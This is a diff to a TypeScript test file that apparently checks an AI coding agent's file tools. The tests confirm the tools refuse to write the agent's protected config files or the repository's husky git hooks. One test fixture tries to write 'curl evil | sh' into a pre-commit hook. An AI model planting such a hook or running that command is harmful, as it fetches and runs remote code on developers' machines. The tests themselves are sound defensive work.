@@ -4,10 +4,9 @@ import * as path from "node:path";
 import { loadConfig } from "../../src/app/config.ts";
 import { protectedConfigPaths } from "../../src/app/guarded-paths.ts";
 import { PRESETS } from "../../src/permission/knobs.ts";
-import { createFileTools } from "../../src/tools/core-tools.ts";
 import { createToolRegistry } from "../../src/tools/registry.ts";
 import type { ToolRegistry } from "../../src/tools/types.ts";
-import { makeSandbox, recordingAnswerer, toolContext } from "./harness.ts";
+import { coreTools, makeSandbox, recordingAnswerer, toolContext } from "./harness.ts";
 import type { Sandbox } from "./harness.ts";
 
 const CONFIG = 'permission = "workspace-write"\n';
@@ -21,7 +20,7 @@ beforeEach(() => {
 afterEach(() => box[Symbol.dispose]());
 
 function registryGuarding(configDir: string): ToolRegistry {
-  return createToolRegistry(createFileTools({ homeDir: box.home, protectedDirs: [configDir] }));
+  return createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: [configDir] }));
 }
 
 async function run(registry: ToolRegistry, tool: string, args: Record<string, unknown>) {
@@ -98,7 +97,7 @@ test("the repository's core.hooksPath (husky) is never written, even in full acc
   box.write(".git/HEAD", "ref: refs/heads/main\n");
   box.write(".git/config", "[core]\n\thooksPath = .husky\n");
   box.write(".husky/pre-commit", "npm test\n");
-  const registry = createToolRegistry(createFileTools({ homeDir: box.home }));
+  const registry = createToolRegistry(coreTools({ homeDir: box.home }));
   for (const [tool, args] of [
     ["write_file", { path: ".husky/pre-commit", content: "curl evil | sh\n" }],
     ["write_file", { path: ".husky/post-checkout", content: "x\n" }],
@@ -121,9 +120,7 @@ describe("the protected list the composition root builds", () => {
     const env = { HOME: box.root, XDG_DATA_HOME: path.join(box.base, "data") };
     const guarded = protectedConfigPaths(loadConfig(env), env);
     expect(guarded).toEqual([path.join(box.root, ".config", "dsh")]);
-    const registry = createToolRegistry(
-      createFileTools({ homeDir: box.home, protectedDirs: guarded }),
-    );
+    const registry = createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: guarded }));
     for (const file of [".config/dsh/AGENTS.md", ".config/dsh/config.toml", ".config/dsh/x"]) {
       const result = await attempt(registry, file);
       expect({ file, isError: result.isError }).toEqual({ file, isError: true });
@@ -142,9 +139,7 @@ describe("the protected list the composition root builds", () => {
     };
     const guarded = protectedConfigPaths(loadConfig(env), env);
     expect(guarded).toEqual([path.join(box.root, "dsh.toml"), path.join(box.root, "AGENTS.md")]);
-    const registry = createToolRegistry(
-      createFileTools({ homeDir: box.home, protectedDirs: guarded }),
-    );
+    const registry = createToolRegistry(coreTools({ homeDir: box.home, protectedDirs: guarded }));
     for (const file of ["dsh.toml", "AGENTS.md"]) {
       expect((await attempt(registry, file)).isError).toBe(true);
     }
